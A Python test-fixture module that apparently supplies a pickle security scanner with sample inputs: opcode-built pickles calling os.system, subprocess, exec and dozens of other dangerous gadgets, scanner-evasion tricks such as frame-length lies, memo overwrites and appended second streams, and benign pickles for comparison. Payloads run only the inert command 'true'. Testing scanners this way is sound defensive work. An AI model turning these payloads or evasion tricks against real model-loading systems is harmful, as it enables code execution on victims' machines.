"""Malicious and benign pickles, built from opcodes. Payloads are inert (`true`), and nothing here is ever loaded."""

from __future__ import annotations

import pickle
import struct
from collections import OrderedDict
from typing import Any

COMMAND = "true"


def short(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def glob(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stack_global(module: str, name: str) -> bytes:
    return short(module) + short(name) + b"\x93"


def call(module: str, name: str, *args: str, protocol: int = 4) -> bytes:
    """A whole pickle that calls one global with text arguments."""
    if protocol >= 4:
        head = b"\x80" + bytes([protocol]) + stack_global(module, name)
        body = b"(" + b"".join(short(a) for a in args) + b"tR."
    else:
        head = (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + glob(module, name)
        body = b"(" + b"".join(b"S'" + a.encode() + b"'\n" for a in args) + b"tR."
    return head + body


SYSTEM = glob("posix", "system") + b"(S'true'\ntR."
BENIGN = pickle.dumps({"a": [1, 2.5, "x"], "b": (True, None)}, 2)

# One name per module family that a scanner must know or not allow.
_GADGETS = """
os.system posix.system nt.system os.popen os.execv os.spawnl os.remove subprocess.Popen subprocess.call subprocess.check_output
subprocess.getoutput builtins.exec builtins.eval builtins.compile builtins.__import__ builtins.getattr builtins.open
__builtin__.eval __builtin__.execfile __builtin__.apply runpy.run_path runpy._run_code pip.main pip._internal.main
ctypes.CDLL _ctypes.dlopen _posixsubprocess.fork_exec importlib.import_module importlib.machinery.SourceFileLoader
_io.open io.open io.FileIO codecs.open _pyio.open _io.FileIO urllib.request.urlopen http.client.HTTPSConnection
socket.create_connection smtplib.SMTP ftplib.FTP pandas.read_csv requests.get torch.load joblib.load numpy.load pandas.read_pickle
torch.hub.load pickle.loads _pickle.loads cPickle.loads dill.loads cloudpickle.loads marshal.loads types.FunctionType
types.CodeType operator.attrgetter operator.methodcaller _operator.attrgetter operator.itemgetter pkgutil.resolve_name
functools.partial functools.reduce builtins.map builtins.list_ shutil.rmtree shutil.copyfile pty.spawn code.InteractiveInterpreter
code.interact codeop.compile_command webbrowser.open platform.popen commands.getoutput popen2.popen3 multiprocessing.Process
multiprocessing.util.spawnv_passfds threading.Thread asyncio.create_subprocess_shell asyncio.unix_events._UnixSubprocessTransport
signal.signal zipimport.zipimporter pdb.run pdb.Pdb bdb.Bdb cProfile.run profile.run profile.Profile.run timeit.timeit trace.Trace
doctest.debug_script test.support.script_helper.assert_python_ok idlelib.autocomplete.AutoComplete idlelib.pyshell.ModifiedInterpreter
distutils.spawn.spawn distutils.file_util.write_file setuptools.sandbox.run_setup ensurepip._run_pip venv.create lib2to3.pgen2.pgen.ParserGenerator
logging.FileHandler logging.config.fileConfig sqlite3.connect ssl.get_server_certificate mmap.mmap gc.get_objects inspect.getsource
linecache.getlines site.execsitecustomize uuid._get_command_stdout uuid.getnode imaplib.IMAP4_stream imaplib.IMAP4 nntplib.NNTP
telnetlib.Telnet xmlrpc.client.ServerProxy _pyrepl.pager.pipe_pager pydoc.pipepager pydoc.tempfilepager cgitb.Hook antigravity.geohash
_interpreters.run_string _xxsubinterpreters.run_string _testcapi.run_in_subinterp numpy.testing._private.utils.runstring numpy.f2py.crackfortran.myeval
numpy.fromfile numpy.memmap numpy.lib.npyio.load torch.jit.unsupported_tensor_ops.execWrapper torch.utils._config_module.load_config
torch.utils.bottleneck.__main__.run_cprofile torch.utils.collect_env.run torch._dynamo.guards.GuardBuilder.get
torch.distributed.rpc.server_process_global_profile tensorflow.keras.models.load_model keras.models.load_model
transformers.AutoModel.from_pretrained sklearn.utils.fixes.delayed yaml.unsafe_load jinja2.Template nltk.data.load
evil.payload my_package.hidden sklearn.foo.Unknown ..os.system
"""
GADGETS = _GADGETS.split()


def gadget_call(dotted: str, protocol: int) -> bytes:
    module, _, name = dotted.rpartition(".")
    return call(module, name, COMMAND, protocol=protocol)


def malicious() -> dict[str, bytes]:
    """Every technique on pickles, by name."""
    samples = {f"system-protocol-{p}": call("posix", "system", COMMAND, protocol=p) for p in range(6)}
    samples |= {f"gadget-{name}": gadget_call(name, 4) for name in GADGETS}
    samples |= {f"gadget-py2-{name}": gadget_call(name, 2) for name in GADGETS if name.count(".") == 1}
    samples |= {f"dotted-{m}": call(m, n, COMMAND) for m, n in DOTTED}
    samples |= _object_opcodes() | _parser_tricks() | _stack_tricks() | _stream_tricks()
    return samples


DOTTED = [
    ("random", "_os.system"), ("collections", "_sys.modules.get"), ("argparse", "_os.system"), ("logging", "os.system"),
    ("torch", "os.system"), ("torch.storage", "io.open"), ("numpy", "os.system"), ("datetime", "sys.modules"),
    ("collections", "OrderedDict.__init_subclass__"), ("collections", "OrderedDict.fromkeys"), ("builtins", "dict.get"),
    ("decimal", "_os.system"), ("uuid", "os.system"), ("pathlib", "os.system"), ("copyreg", "__builtins__"),
    ("torch._utils", "__builtins__"), ("fractions", "sys.exit"), ("types", "SimpleNamespace.__class__"),
    ("torch.serialization", "os.system"), ("torch._tensor", "os.system"), ("argparse", "Namespace.__init__.__globals__"),
]  # fmt: skip


def _object_opcodes() -> dict[str, bytes]:
    system = glob("posix", "system")
    return {
        "inst": b"(S'true'\niposix\nsystem\n.",
        "obj": b"(" + system + b"S'true'\no.",
        "newobj": b"\x80\x02" + glob("subprocess", "Popen") + b"U\x04true\x85\x81.",
        "newobj-ex": b"\x80\x04" + stack_global("subprocess", "Popen") + short("true") + b"\x85}\x92.",
        "build-setstate": b"\x80\x02" + glob("evil", "Thing") + b")\x81}b.",
        "build-on-function": glob("numpy", "ndarray") + b"}S'__class__'\nNsb.",
        "build-on-safe-global": glob("collections", "OrderedDict") + b"}S'__setattr__'\n" + system + b"sb.",
        "subinterpreter-build": b"\x80\x04" + stack_global("_interpreters", "create") + b")R}b.",
        "getattr-chain": glob("__builtin__", "getattr") + b"(" + glob("os", "path") + b"S'os'\ntR.",
        "computed-callable": glob("torch", "Size") + b"(tR(S'true'\ntR.",
        "callable-from-persistent": b"Pname\n(S'true'\ntR.",
        "append-to-global": glob("collections", "deque") + b"S'x'\na.",
        "setitem-on-global": glob("collections", "OrderedDict") + b"S'x'\nNs.",
        "extension-1": b"\x80\x02\x82\x01(tR.",
        "extension-4": b"\x80\x02\x84\x01\x00\x00\x00.",
        "map-list": glob("builtins", "list") + b"(" + glob("builtins", "map") + b"(" + system + b"(S'true'\nltRtR.",
        "codec": glob("_codecs", "encode") + b"(S'x'\nS'idna'\ntR.",
        "codec-args-hidden": glob("_codecs", "encode") + glob("builtins", "tuple") + b"(lR.",
        "nested-loads": b"\x80\x03" + glob("_pickle", "loads") + b"C" + bytes([len(SYSTEM)]) + SYSTEM + b"\x85R.",
        "bytearray-bomb": glob("builtins", "bytearray") + b"(I99999999999\ntR.",
    }


def _parser_tricks() -> dict[str, bytes]:
    system = glob("posix", "system") + b"(S'true'\ntR"
    return {
        "hex-int": b"I0x10\n0" + SYSTEM,
        "hex-long": b"L0x1L\n0" + SYSTEM,
        "octal-int": b"I0o17\n0" + SYSTEM,
        "leading-zero-int": b"I017\n0" + SYSTEM,
        "nul-int": b"I1\x00zz\n0" + SYSTEM,
        "underscore-int": b"I1_0\n0" + SYSTEM,
        "utf8-string": b"S'\xc3\xa9'\n0" + SYSTEM,
        "late-proto": b"N0\x80\x00" + SYSTEM,
        "many-protos": b"\x80\x02\x80\x04\x80\x01" + SYSTEM,
        "runs-then-breaks": system + b"\xff\xff",
        "truncated": system,
        "truncated-name": b"cposix\nsystem\n(S'true'\ntR",
        "frame-lies": b"\x80\x04\x95\x04\x00\x00\x00\x00\x00\x00\x00"
        + stack_global("posix", "system")
        + short("true")
        + b"\x85R.",
        # The C unpickler, reading a file, drops what is left of a frame when an operand crosses its end.
        "frame-hides-text": b"\x80\x04\x95\x0e\x00\x00\x00\x00\x00\x00\x00ccollections\nOr" + b"deque\n)R.",
        "frame-hides-operand": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x05abc"
        + short("posix")[2:]
        + b"000"
        + b"N.",
        "frame-past-end": b"\x80\x04\x95" + b"\xff" * 8 + stack_global("posix", "system") + short("true") + b"\x85R.",
        "no-op-flood": b"N0" * 1_200_000 + SYSTEM,
        "padding-3-mib": b"\x80\x03B" + struct.pack("<I", 3 << 20) + bytes(3 << 20) + b"0" + SYSTEM,
        "long-binput": b"Nr\xff\xff\xff\x7f0" + SYSTEM,
    }


def _stack_tricks() -> dict[str, bytes]:
    return {
        "memo-dup": glob("posix", "system") + b"2p0\n0(S'true'\ntR.",
        "memo-overwrite": b"\x80\x04" + short("collections") + b"\x940" + short("posix") + b"q\x000h\x00" + short("system") + b"\x93" + short("true") + b"\x85R.",
        "memo-name": b"\x80\x04" + short("posix") + b"\x94" + short("system") + b"\x9400h\x00h\x01\x93" + short("true") + b"\x85R.",
        "pop-decoy": b"\x80\x04" + short("collections") + b"0" + short("posix") + short("OrderedDict") + b"0" + short("system") + b"\x93" + short("true") + b"\x85R.",
        "pop-mark-decoy": b"\x80\x04(" + short("x") + b"1" + stack_global("posix", "system") + short("true") + b"\x85R.",
        "pop-removes-mark": b"(0" + SYSTEM,
        "computed-module": b"\x80\x04" + stack_global("builtins", "str") + b")R" + short("system") + b"\x93" + short("true") + b"\x85R.",
        "long-module-name": b"\x80\x04X" + struct.pack("<I", 2000) + b"a" * 2000 + short("system") + b"\x93)R.",
        "leftover-result": SYSTEM[:-1] + b"0N.",
    }  # fmt: skip


def _stream_tricks() -> dict[str, bytes]:
    return {
        "second-stream": BENIGN + SYSTEM,
        "second-stream-text": b"N." + SYSTEM,
        "third-stream": b"N.N." + SYSTEM,
        "after-garbage": BENIGN + b"\x00garbage\n" + SYSTEM,
        "empty-zip-trailer": SYSTEM + b"PK\x05\x06" + bytes(18),
        "benign-with-zip-trailer": BENIGN + b"PK\x05\x06" + bytes(18),
        "persistent-id": b"Pevil\n.",
        "trailing-executable": BENIGN + b"\x7fELF" + bytes(60),
        "deep-tuples": b")" + b"\x85" * 200_000 + glob("posix", "system") + b"\x86.",
        "mark-flood": b"(" * 200_000 + SYSTEM,
    }


def benign() -> dict[str, bytes]:
    """Plain data as Python and numpy write it."""
    import numpy as np

    values: dict[str, Any] = {
        "none": None,
        "state": OrderedDict(a=[1.0, 2.0], b={"x": (1, 2, 3)}),
        "sets": {1, 2, frozenset([3])},
        "big-int": 10**400,
        "long-text": "x" * 100_000,
        "bytes": b"\x00" * 5000,
        "vocabulary": {f"token{i}": i for i in range(20_000)},
        "array": np.arange(12.0).reshape(3, 4),
        "array-list": [np.int64(3), np.zeros(3, dtype="float16"), np.dtype("<i4")],
        "bytearray": bytearray(b"abc"),
        "complex": 1 + 2j,
    }
    return {f"{k}-{p}": pickle.dumps(v, p) for k, v in values.items() for p in range(6)}
